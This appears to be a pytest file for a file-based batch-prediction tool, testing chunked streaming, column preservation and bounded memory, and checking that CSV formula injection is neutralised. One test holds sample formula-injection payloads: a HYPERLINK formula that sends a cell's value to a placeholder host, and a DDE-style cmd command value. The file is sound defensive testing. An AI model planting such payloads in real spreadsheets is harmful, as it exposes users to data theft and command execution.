"""Batch inference over files keeps the user's data: streamed in chunks, no column overwritten,
formula cells made inert in CSV, byte-order marks accepted, duplicate columns refused."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from slimflow.models.core.errors import ConfigError, DataError
from slimflow.models.release.batch_predict import neutralise, predict_file

CALLS: list[int] = []


def fake(texts: list[str]) -> pd.DataFrame:
    CALLS.append(len(texts))
    return pd.DataFrame(
        {"label": ["pos" if "good" in t else "neg" for t in texts], "score": [0.9] * len(texts)}
    )


def test_csv_rows_come_back_unchanged_with_predictions_streamed_in_chunks(tmp_path):
    src = tmp_path / "in.csv"
    body = "id,text,note\n" + "".join(
        f"{i},good film {i},NA\n" if i % 2 else f"{i},dull {i},\n" for i in range(10)
    )
    src.write_bytes(b"\xef\xbb\xbf" + body.encode())  # Excel's byte-order mark
    CALLS.clear()
    res = predict_file(fake, src, tmp_path / "out.csv", "text", "", chunk_rows=3)
    assert res == {"rows": 10, "labels": {"neg": 5, "pos": 5}}
    assert CALLS == [3, 3, 3, 1]  # never the whole file at once
    got = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert list(got.columns) == ["id", "text", "note", "label", "score"]
    assert got["id"].tolist() == [str(i) for i in range(10)]
    assert got["note"].tolist() == ["", "NA"] * 5  # "NA" stays text, empty stays empty


def test_an_input_column_is_never_overwritten(tmp_path):
    src = tmp_path / "in.csv"
    pd.DataFrame({"text": ["good", "bad"], "label": ["gold-1", "gold-2"]}).to_csv(src, index=False)
    with pytest.raises(ConfigError, match="already has a column 'label'.*--prefix"):
        predict_file(fake, src, tmp_path / "out.csv", "text")
    assert not (tmp_path / "out.csv").exists()
    predict_file(fake, src, tmp_path / "out.csv", "text", prefix="predicted_")
    got = pd.read_csv(tmp_path / "out.csv")
    assert got["label"].tolist() == ["gold-1", "gold-2"] and got["predicted_label"].tolist() == ["pos", "neg"]


def test_formula_cells_are_neutralised_in_csv_only(tmp_path):
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    src = tmp_path / "in.jsonl"
    rows = [
        {"text": evil},
        {"text": "+cmd|' /C calc'!A0"},
        {"text": "-1.5"},
        {"text": "@SUM(1+1)"},
        {"text": "ok"},
    ]
    src.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8-sig")
    predict_file(fake, src, tmp_path / "out.csv", "text")
    got = pd.read_csv(tmp_path / "out.csv", dtype=str)["text"].tolist()
    assert got == ["'" + evil, "'+cmd|' /C calc'!A0", "-1.5", "'@SUM(1+1)", "ok"]
    predict_file(fake, src, tmp_path / "out.jsonl", "text")  # JSON is data, not a spreadsheet: as is
    assert [json.loads(x)["text"] for x in (tmp_path / "out.jsonl").read_text().splitlines()][0] == evil
    assert neutralise("\tx") == "'\tx" and neutralise(3) == 3 and neutralise("1e5") == "1e5"


def test_parquet_and_jsonl_stream_too_and_duplicates_are_refused(tmp_path):
    frame = pd.DataFrame({"text": [f"good {i}" for i in range(25)], "n": list(range(25))})
    frame.to_parquet(tmp_path / "in.parquet")
    CALLS.clear()
    predict_file(fake, tmp_path / "in.parquet", tmp_path / "out.parquet", "text", chunk_rows=10)
    assert CALLS == [10, 10, 5]
    got = pd.read_parquet(tmp_path / "out.parquet")
    assert got["n"].tolist() == list(range(25)) and set(got["label"]) == {"pos"}
    (tmp_path / "dup.csv").write_text("text,text\na,b\n")
    with pytest.raises(DataError, match="duplicate column"):
        predict_file(fake, tmp_path / "dup.csv", tmp_path / "o.csv", "text")
    with pytest.raises(ConfigError, match="no column 'body'"):
        predict_file(fake, tmp_path / "in.parquet", tmp_path / "o.csv", "body")


PEAK = """
import resource, sys
from pathlib import Path
import pandas as pd
from slimflow.models.release.batch_predict import predict_file

def fake(texts):
    return pd.DataFrame({"label": ["pos"] * len(texts), "score": [0.5] * len(texts)})

predict_file(fake, Path(sys.argv[1]), Path(sys.argv[2]), "text", chunk_rows=100)
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)  # KiB on Linux
"""


def _peak_rss_mib(tmp_path, rows: int) -> tuple[float, int]:
    import subprocess
    import sys

    src = tmp_path / f"in-{rows}.csv"
    cell = "a fine film " * 1700  # about 20 KB a row
    with src.open("w", encoding="utf-8") as f:
        f.write("id,text\n")
        for i in range(rows):
            f.write(f"{i},{cell}{i}\n")
    out = tmp_path / f"out-{rows}.csv"
    r = subprocess.run([sys.executable, "-c", PEAK, str(src), str(out)], capture_output=True, text=True,
                       timeout=600)  # fmt: skip
    assert r.returncode == 0, r.stderr[-2000:]
    assert sum(1 for _ in out.open(encoding="utf-8")) == rows + 1
    return int(r.stdout.split()[-1]) / 1024, src.stat().st_size


def test_predict_streams_a_large_csv_in_bounded_memory(tmp_path):
    """Ten times the rows must not cost ten times the memory: the file is read chunk by chunk."""
    small, small_bytes = _peak_rss_mib(tmp_path, 300)  # ~6 MB
    big, big_bytes = _peak_rss_mib(tmp_path, 3000)  # ~61 MB
    grown = big - small
    print(f"\npeak RSS: {small_bytes / 2**20:.0f} MB file {small:.0f} MiB; "
          f"{big_bytes / 2**20:.0f} MB file {big:.0f} MiB (+{grown:.0f} MiB)")  # fmt: skip
    # reading it whole would hold the 55 MB more text at least once (pandas: two or three times)
    assert grown < 0.3 * (big_bytes - small_bytes) / 2**20, (small, big)
